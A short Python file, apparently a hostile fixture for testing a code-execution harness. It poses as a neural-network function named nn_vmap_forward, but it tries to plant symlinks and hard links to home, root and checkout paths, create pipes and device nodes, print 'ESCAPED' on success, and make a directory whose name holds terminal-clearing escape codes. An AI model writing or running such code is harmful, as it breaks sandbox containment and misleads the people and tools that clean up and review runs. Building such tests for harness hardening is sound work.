"""Leaves links in its folder that lead out of it, for whoever cleans up."""
# outcome: failed; rule: not-an-array
import os


def nn_vmap_forward(seed, x_batch, features):
    for number, path in enumerate(("@HOME@", "/", os.path.dirname(__file__), "@CHECKOUT@")):
        for make in (os.symlink, os.link):
            try:
                make(path, f"{number}{make.__name__}")
                print("ESCAPED", path)
            except OSError:
                pass
    for make in (os.mkfifo, os.mknod):
        try:
            make("pipe")
            print("ESCAPED", make)
        except OSError:
            pass
    os.mkdir("..." + "\n\x1b[2J" * 10)
